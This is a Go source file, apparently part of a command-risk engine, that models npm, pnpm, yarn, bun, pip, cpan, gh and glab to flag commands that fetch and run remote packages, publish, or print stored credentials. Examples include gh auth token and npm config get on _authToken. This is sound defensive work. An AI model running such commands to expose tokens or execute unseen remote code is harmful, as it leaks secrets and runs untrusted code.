		val("p", RoleData, "package").does(EffExec|EffComputed, whyRemotePackage).when(RemotePackage), flag("", "bun"), flag("", "silent"), flag("", "verbose"), flag("", "no-install"),
	), Operands: packageCommand, Judge: runnerSources("bunx")}
}

// whyInitializer is why npm init NAME (npm create), yarn create, pnpm
// create and bun create are judged.
const whyInitializer = "downloads the package create-NAME and runs it (npm exec create-NAME): a program chosen by name from the registry, which the engine does not see"

// initializer is a package manager's init or create: an operand names an
// initializer package it runs (npm init vite runs create-vite); without
// one it only writes package.json.
func initializer(s Syntax, name string) *Spec {
	sp := cmd(s, name)
	sp.Operands = []Operand{{Role: RoleData, Effect: EffExec | EffComputed, Why: whyInitializer}}
	return sp
}

// runnerModel is pnpm, yarn or bun: a name that is not a command runs a
// script or a file, so other names are operands.
func runnerModel(name string, publish ...string) *Spec {
	s := Syntax{Permute: true}
	root := &Spec{Name: name, Syntax: s, Open: true, OpenSubs: true, Options: list(
		val("C", RolePath, "dir", "cwd").chdir(), val("F", RoleData, "filter"),
		val("", RoleProgram, "script-shell").does(EffExec, "runs package scripts with this shell"),
		val("e", RoleCode, "eval").code(LangJS).does(EffExec, whyCode), val("p", RoleCode, "print").code(LangJS).does(EffExec, whyCode),
	)}
	subs := func() []*Spec {
		out := exts(s, publish...)
		out = append(out, &Spec{Name: "exec", Syntax: GNUStop, Open: true, Operands: []Operand{{Role: RoleCommand}}})
		for _, n := range []string{"dlx", "x"} {
			out = append(out, &Spec{Name: n, Syntax: GNUStop, Open: true, Options: list(val("p", RoleData, "package").does(EffExec|EffComputed, whyRemotePackage).when(RemotePackage)),
				Operands: packageCommand})
		}
		out = append(out, initializer(s, "create"))
		return append(out, withSubs(cmd(s, "npm"), ext(s, "publish"), group(s, "tag", "add", "remove")),
			group(s, "tag", "add", "remove"), group(s, "owner", "add", "remove"),
			withSubs(cmd(s, "config"), configSet(s, "set")))
	}
	if name == "pnpm" {
		// pnpm's options that take the next word as their value, so that
		// the word after it is the command (pnpm --resume-from x publish);
		// yarn and bun take none of them (bun --reporter publish runs
		// publish).
		root.Options = append(root.Options,
			val("", RoleData, "filter-prod", "test-pattern", "changed-files-ignore-pattern", "resume-from", "reporter",
				"loglevel", "workspace-concurrency"),
			val("", RolePath, "store-dir", "virtual-store-dir", "modules-dir", "lockfile-dir"))
	}
	root.Subs = subs()
	if name == "bun" {
		// bun pm pkg set|delete|fix rewrites package.json as npm pkg
		// does; bun pm's other commands list and clean.
		pm := cmd(s, "pm")
		pm.OpenSubs = true
		pm.Subs = []*Spec{npmPkg(s)}
		root.Subs = append(root.Subs, pm)
	}
	root.Judge = func(r *Result, words []string) {
		judgeNpmPrefix(r, words) // pnpm add -g ., pnpm link, yarn global add file:., bun link
		judgeRunnerBin(r, words)
		runnerNames(r, words)
		scriptArgs(r, words)
	}
	// Subcommands that run another of the runner's own commands: yarn
	// workspace NAME CMD…, yarn workspaces foreach [options] CMD…, and
	// pnpm's recursive (m, multi), its -r spelled as a word. What follows
	// is read as the runner's command again (yarn workspace a npm publish,
	// pnpm m exec git push).
	again := func(name string, subAt int) *Spec {
		return &Spec{Name: name, Syntax: s, Open: true, OpenSubs: true, SubAt: subAt, Subs: subs()}
	}
	switch name {
	case "yarn":
		root.Subs = append(root.Subs, again("workspace", 1), withSubs(cmd(s, "workspaces"), again("foreach", 0)))
	case "pnpm":
		root.Subs = append(root.Subs, again("recursive", 0), again("m", 0), again("multi", 0),
			armed(cmd(s, "setup"), "pnpm setup writes PNPM_HOME and its PATH into the shell's start-up file (~/.bashrc), which every later shell runs"))
	}
	return root
}

// judgeRunnerBin reads yarn NAME ARGS…, pnpm NAME ARGS… and their run
// NAME through the model of the program NAME, where the catalog has one:
// without a script of that name in package.json the runner runs the
// package's bin from node_modules/.bin (yarn husky installs git hooks as
// husky does). A script of that name is the project's; read as the
// program, it is judged on the safe side.
func judgeRunnerBin(r *Result, words []string) {
	name, at := -1, 0
	skip := false // the name after yarn workspace
	for _, it := range r.Items {
		switch {
		case it.Kind == KindSubcommand && runsAgain[it.Text]:
			// yarn workspace NAME CMD…, pnpm recursive CMD…: what follows
			// is the runner's command again.
			skip = it.Text == "workspace"
		case it.Kind == KindSubcommand:
			return // a verb of the runner's own (exec, dlx …), judged by its model
		case it.Kind == KindOperand && skip:
			skip = false
		case it.Kind == KindOperand && name < 0:
			if it.Text == "run" && at == 0 {
				at = 1 // yarn run NAME
				continue
			}
			name = it.Word
		}
	}
	if name < 0 || name >= len(words) || r.WordComputed(words, name) {
		return
	}
	judgeAsLater(r, words[name+1:], name, words[name])
}

// npmRegistryVerbs are npm's commands whose operands are package names
// it asks the registry for (by their canonical names, after npmResolve).
var npmRegistryVerbs = words("view", "install", "install-test", "install-ci-test", "pack", "cache", "outdated", "exec",
	"update", "dist-tag", "owner", "access", "deprecate", "docs", "bugs", "repo", "fund", "search", "init", "star", "unstar")

// whyComputedPackage is why a package or module name known only at run
// time asks: the name is the path of a request to a registry (and, for a
// Go module, its host), so it carries data the engine does not see, and a
// package chosen at run time runs code chosen at run time.
const whyComputedPackage = "names a package or module known only at run time: the name is part of a request to a registry, data the engine does not see, and what installs or runs is chosen at run time"

// computedPackage finds an operand known only at run time of one of the
// verbs (the subcommand that read it) whose operands name packages.
func computedPackage(r *Result, verbs map[string]bool, prog string) {
	for _, it := range r.Items {
		if it.Kind == KindOperand && it.Computed && !localGlob(it.Text) && it.Spec != nil && verbs[it.Spec.Name] {
			r.Effects |= EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: it.Word, Why: prog + " " + it.Spec.Name + " " + whyComputedPackage})
			return
		}
	}
}

// npmToken is npm token: create and revoke change the account's tokens,
// and list (ls) asks the registry for them.
func npmToken(s Syntax) *Spec {
	g := group(s, "token", "create", "revoke")
	g.Subs = append(g.Subs, ext(s, "list"), ext(s, "ls"))
	for _, sub := range g.Subs[len(g.Subs)-2:] {
		sub.Why = whyPrintsSecret
	}
	return g
}

// npmConfigGet is npm config get KEY…: a key that holds a credential
// (//registry.npmjs.org/:_authToken, _auth, _password) prints it.
func npmConfigGet(s Syntax, name string) *Spec {
	get := cmd(s, name)
	get.Operands = []Operand{{Role: RoleData, Effect: EffExternal, Why: whyPrintsSecret, Check: func(v string, computed bool) bool {
		l := strings.ToLower(v)
		return computed || strings.Contains(l, "auth") || strings.Contains(l, "token") || strings.Contains(l, "password") ||
			strings.Contains(l, "cert") || strings.HasSuffix(l, ":key") || l == "key"
	}}}
	return get
}

// runnerNames finds a computed package name given to yarn's, pnpm's and
// bun's commands that ask the registry for one (add, view, info …).
var runnerNames = packageNames("the runner", words("add", "install", "i", "view", "info", "why", "outdated", "dlx", "create", "global", "x"),
	words("add", "install", "i", "global", "dlx", "x", "create"), runnerIndexes, RemotePackage)

// runsAgain are the runners' subcommands that run another of the
// runner's commands (runnerModel's again).
var runsAgain = words("workspace", "workspaces", "foreach", "recursive", "m", "multi")

// publisher is a tool whose listed subcommands publish; other names are
// operands.
func publisher(name string, syn Syntax, subs ...string) *Spec {
	return &Spec{Name: name, Syntax: syn, Open: true, OpenSubs: true, Subs: exts(syn, subs...)}
}

func forgeModel(name string, groups map[string][]string, whole ...string) *Spec {
	c := Cobra
	root := &Spec{Name: name, Syntax: c, Options: list(val("R", RoleData, "repo"), flag("", "help"), flag("", "version"))}
	keys := make([]string, 0, len(groups))
	for g := range groups {
		keys = append(keys, g)
	}
	slices.Sort(keys)
	for _, g := range keys {
		root.Subs = append(root.Subs, group(c, g, groups[g]...))
	}
	root.Subs = append(root.Subs, exts(c, whole...)...)
	return root
}

func ghModel() *Spec {
	// gh's "new" is its alias of create (gh pr new, gh repo new).
	gh := forgeModel("gh", map[string][]string{
		"pr":          {"create", "new", "merge", "close", "reopen", "comment", "edit", "review", "ready", "lock", "unlock", "update-branch", "revert"},
		"issue":       {"create", "new", "close", "comment", "edit", "delete", "reopen", "transfer", "lock", "unlock", "pin", "unpin", "develop"},
		"release":     {"create", "new", "upload", "delete", "delete-asset", "edit"},
		"repo":        {"create", "new", "delete", "edit", "fork", "rename", "archive", "unarchive", "sync", "deploy-key", "autolink"},
		"secret":      {"set", "delete", "remove"},
		"variable":    {"set", "delete"},
		"workflow":    {"run", "enable", "disable"},
		"run":         {"rerun", "cancel", "delete"},
		"gist":        {"create", "new", "edit", "delete", "rename"},
		"label":       {"create", "edit", "delete", "clone"},
		"ssh-key":     {"add", "delete"},
		"gpg-key":     {"add", "delete"},
		"codespace":   {"create", "delete", "edit", "ssh", "cp", "code", "jupyter", "ports", "stop", "rebuild"},
		"cache":       {"delete"},
		"project":     {"create", "edit", "delete", "close", "copy", "field-create", "field-delete", "item-add", "item-archive", "item-create", "item-delete", "item-edit", "link", "unlink", "mark-template"},
		"ruleset":     {},
		"alias":       {"set", "import"},
		"extension":   {"install", "upgrade", "exec", "create"},
		"auth":        {"login", "logout", "refresh", "setup-git", "switch"},
		"config":      {"set"},
		"attestation": {},
		"org":         {},
		"search":      {},
		"status":      {},
		"browse":      {},
		"completion":  {},
		"agent-task":  {"create"},
	}, "api")
	for _, s := range gh.Subs {
		switch s.Name {
		case "pr":
			child(s, "create").Instead = "pr_open"
			child(s, "merge").Instead = "git_merge"
		case "repo":
			child(s, "create").Instead = "git_repo_create"
		case "api":
			ghAPI(s)
		case "config":
			// config get oauth_token prints the token kept in hosts.yml.
			get := cmd(Cobra, "get")
			get.Operands = []Operand{{Role: RoleData, Effect: EffExternal, Why: whyPrintsSecret, Check: func(v string, computed bool) bool {
				return computed || strings.Contains(strings.ToLower(v), "token")
			}}}
			s.Subs = append(s.Subs, get)
		case "auth":
			// gh auth token prints the token gh keeps; status prints it
			// with -t (--show-token).
			s.Subs = append(s.Subs, ext(Cobra, "token"))
			child(s, "token").Why = whyPrintsSecret
			// git-credential get is the credential helper git calls: it
			// prints the token.
			s.Subs = append(s.Subs, ext(Cobra, "git-credential"))
			child(s, "git-credential").Why = whyPrintsSecret
			status := cmd(Cobra, "status")
			status.Options = list(flag("t", "show-token").does(EffExternal, whyPrintsSecret), val("h", RoleData, "hostname"))
			s.Subs = append(s.Subs, status)
		}
	}
	// The host gh talks to, set for the command: gh sends the token it
	// keeps for that host (GH_ENTERPRISE_TOKEN for any other than
	// github.com) there.
	gh.Env = []EnvVar{{Name: "GH_HOST", Effect: EffExternal, Why: "GH_HOST sends gh's requests, and the token for that host, where it names"}}
	return closed(gh)
}

// ghAPI gives gh api its options, and takes back its effect from a plain
// read: the default method (GET) or -X GET/HEAD, no field or input (either
// makes the request a POST), a literal endpoint that is neither a URL nor
// GraphQL's (a query may be a mutation), no header or host of the
// command's choosing and nothing computed. gh api repos/o/r/pulls/1/comments
// reads what gh pr view shows.
func ghAPI(s *Spec) {
	s.Options = list(val("X", RoleData, "method"), val("f", RoleData, "raw-field"), val("F", RoleData, "field"),
		val("H", RoleData, "header"), val("", RolePath, "input"), val("q", RoleData, "jq"), val("t", RoleData, "template"),
		val("", RoleData, "hostname"), val("", RoleData, "cache"), val("p", RoleData, "preview"),
		flag("", "paginate", "slurp", "silent", "verbose"), flag("i", "include"))
	s.Judge = func(r *Result, words []string) {
		known := 0 // option words the model read
		for _, it := range r.Items {
			if it.Kind == KindOption && it.Opt != nil {
				known++
			}
		}
		options := 0
		for _, k := range r.Words {
			if k == KindOption {
				options++
			}
			if k == KindUnknown {
				return
			}
		}
		if options != known {
			return // an option the model does not know
		}
		operands := 0
		for _, it := range r.Items {
			switch {
			case it.computedText():
				return
			case it.ValueOf("method"):
				if m := strings.ToUpper(it.Text); m != "GET" && m != "HEAD" {
					return
				}
			case it.ValueOf("raw-field", "field", "input", "header", "hostname"):
				return
			case it.Kind == KindOperand && it.Spec == s:
				operands++
				if operands > 1 || strings.Contains(it.Text, "://") || strings.EqualFold(strings.Trim(it.Text, "/"), "graphql") {
					return
				}
			}
		}
		if operands == 1 {
			r.takeBackSub(EffExternal)
		}
	}
}

func glabModel() *Spec {
	return closed(forgeModel("glab", map[string][]string{
		"mr":           {"create", "new", "merge", "accept", "close", "reopen", "note", "comment", "update", "approve", "revoke", "delete", "rebase", "subscribe", "unsubscribe"},
		"issue":        {"create", "new", "close", "delete", "note", "comment", "update", "reopen", "subscribe", "unsubscribe"},
		"release":      {"create", "new", "upload", "delete"},
		"ci":           {"run", "retry", "cancel", "delete", "trigger", "run-trig"},
		"pipeline":     {"run", "retry", "cancel", "delete", "trigger"},
		"repo":         {"create", "new", "delete", "fork", "archive", "transfer", "mirror", "update"},
		"variable":     {"set", "update", "delete", "import"},
		"label":        {"create", "delete"},
		"schedule":     {"run", "create", "delete", "update"},
		"deploy-key":   {"add", "delete"},
		"ssh-key":      {"add", "delete"},
		"gpg-key":      {"add", "delete"},
		"snippet":      {"create", "new"},
		"alias":        {"set"},
		"auth":         {"login", "logout"},
		"config":       {"set"},
		"token":        {"create", "revoke", "rotate"},
		"incident":     {"close", "note", "reopen", "subscribe", "unsubscribe"},
		"job":          {"retry", "cancel", "play", "delete"},
		"cluster":      {"agent"},
		"changelog":    {},
		"check-update": {},
		"completion":   {},
		"version":      {},
		"user":         {},
		"stack":        {"create", "save", "sync", "amend", "push"},
		"securefile":   {"create", "remove"},
		"opentofu":     {"init", "state"},
		"duo":          {"ask"},
		"iteration":    {},
		"attestation":  {},
	}, "api"))
}

// npmExecTail finds npm's own options after the command of npm exec: npm
// reads its options anywhere on its command line unless "--" comes before
// the command, so npm exec jest --node-options=--import=… gives node code
// to load, and -c, --script-shell or --package there run or fetch what
// no word of the command shows. (npx passes those words to the command.)
func npmExecTail(r *Result, words []string) {
	if len(r.Commands) == 0 {
		return
	}
	start := r.Commands[0].Start
	if start <= 0 || start > len(words) || words[start-1] == "--" {
		return
	}
	for i := start + 1; i < len(words); i++ {
		if w := words[i]; w == "--" {
			return
		} else if npmTailOption(w) {
			r.Effects |= EffExec | EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i,
				Why: "npm exec reads npm's own options after the command too, unless -- comes before it: " + w + " is npm's, and runs, loads or fetches what the command does not show"})
			return
		}
	}
}

// npmTailRisky are the npm options that run, load or fetch code, or move
// where npm exec looks for its command; npm takes any unambiguous prefix.
var npmTailRisky = []string{"script-shell", "shell", "node-options", "call", "package", "userconfig", "globalconfig",
	"init-module", "onload-script", "node-gyp", "registry", "prefix", "workspace", "workspaces", "git", "editor", "browser", "viewer"}

func npmTailOption(w string) bool {
	if len(w) >= 2 && w[0] == '-' && w[1] != '-' {
		return strings.ContainsAny(w[1:2], "cpCw") // -c CMD, -p PKG, -C DIR, -w WS
	}
	name, _, _ := strings.Cut(strings.TrimPrefix(w, "--"), "=")
	if !strings.HasPrefix(w, "--") || len(name) < 2 {
		return false
	}
	for _, o := range npmTailRisky {
		if strings.HasPrefix(o, name) {
			return true
		}
	}
	return false
}

// whyRemotePackage is why a package named by a URL, a git repository or
// GitHub's owner/repo is judged.
const whyRemotePackage = "the package is fetched from a URL or a git repository and its command runs: code the engine cannot see"

// RemotePackage reports a package spec that npm (and npx, pnpm, bun)
// fetches from somewhere other than the registry: a URL, a git remote
// (git+https:, git:, github:, gitlab:, bitbucket:, gist:) or GitHub's
// owner/repo shorthand; a spec known only at run time may be one. A
// scoped name (@scope/pkg), a name and a local path (./x, /x, file:) are
// not.
func RemotePackage(spec string, computed bool) bool {
	if computed {
		return true
	}
	if strings.Contains(spec, "://") {
		return true
	}
	for _, p := range []string{"git+", "git:", "github:", "gitlab:", "bitbucket:", "gist:", "http:", "https:"} {
		if strings.HasPrefix(spec, p) {
			return true
		}
	}
	if spec != "" && spec[0] == '@' {
		// @scope/name@SPEC: what follows the version's @ may be a
		// repository (@s/x@o/r, @s/x@github:o/r); npm:NAME is the
		// registry's.
		if i := strings.IndexByte(spec[1:], '@'); i >= 0 {
			v := spec[i+2:]
			return !strings.HasPrefix(v, "npm:") && (strings.IndexByte(v, '/') >= 0 || strings.IndexByte(v, ':') >= 0)
		}
		return false
	}
	if spec == "" || spec[0] == '.' || spec[0] == '/' || spec[0] == '~' || strings.HasPrefix(spec, "file:") {
		return false
	}
	return strings.IndexByte(spec, '/') > 0 // owner/repo
}

// pipInstalls are pip's commands that fetch packages and build them,
// running their build scripts (download and wheel build a source
// package to read its metadata).
var pipInstalls = words("install", "download", "wheel")

// installVerbs are the commands of package managers that install the
// packages their words name, or the project's with none.
var installVerbs = map[string]map[string]bool{
	"npm": npmInstallVerbs, "pnpm": words("add", "install", "i"), "yarn": words("add", "install"),
	"bun": words("add", "install", "i"), "pip": pipInstalls, "uv": words("add", "install", "sync"),
	"poetry": words("add", "install"), "cargo": words("add", "install"), "gem": words("install"), "go": words("get", "install"),
	"composer": words("require", "install"), "pipx": words("install"), "conda": words("install"), "mamba": words("install"),
	"brew": words("install"), "deno": words("add", "install"), "pdm": words("add", "install"),
}

// InstallsPackages reports a package manager's command that installs
// packages (npm i lodash, pip install x, go get m): a rule of its words
// matches by prefix, so it would allow any other package after them. An
// install verb anywhere among the words counts, past options and their
// values (npm --prefix x i lodash, yarn global add x, uv tool install x),
// and python -m pip is pip.
func InstallsPackages(ws []string) bool {
	if len(ws) < 2 {
		return false
	}
	name := ws[0]
	if i := strings.LastIndexByte(name, '/'); i >= 0 {
		name = name[i+1:]
	}
	name = Versionless(name)
	if IsPython(name) {
		for k := 1; k+1 < len(ws); k++ {
			if ws[k] == "-m" {
				return InstallsPackages(ws[k+1:]) // python3 -m pip install x
			}
		}
		return false
	}
	verbs := installVerbs[name]
	if verbs == nil {
		return false
	}
	for _, w := range ws[1:] {
		if w == "" || w[0] == '-' {
			continue
		}
		if name == "npm" {
			w = npmResolve(w)
		}
		if verbs[w] {
			return true
		}
	}
	return false
}

// cpanModel is CPAN's clients (cpan, cpanm): a URL anywhere in their
// words, a mirror's (-M, --mirror, --from) or a distribution's, names
// where the modules they build come from, and each one's Makefile.PL or
// Build.PL runs. A module by name comes from the default mirror.
func cpanModel(name string) *Spec {
	return &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, Operands: operands(RoleData),
		Judge: func(r *Result, words []string) {
			for i, w := range words[1:] {
				if _, val, _ := strings.Cut(w, "="); strings.Contains(w, "://") && !defaultIndex(val) || strings.HasPrefix(w, "git@") {
					r.Effects |= EffExec | EffComputed
					r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i + 1, Why: name + " " + whyIndexURL})
					return
				}
			}
		}}
}

// urlFetcher is a package tool that fetches what its words name from
// where they say (npm's bundled node-gyp --dist-url URL, which builds
// against the headers it downloads; pacote extract URL, which unpacks
// the tarball there): a URL anywhere in its words, other than the default
// registry's, asks.
func urlFetcher(name string) *Spec {
	return &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, OpenSubs: true, Operands: operands(RoleData),
		Judge: func(r *Result, words []string) {
			for i, w := range words[1:] {
				if _, val, _ := strings.Cut(w, "="); urlValue(val) || urlValue(w) || strings.HasPrefix(w, "git+") || strings.HasPrefix(w, "github:") {
					r.Effects |= EffExec | EffComputed
					r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i + 1, Why: name + " " + whyIndexURL})
					return
				}
			}
		}}
}
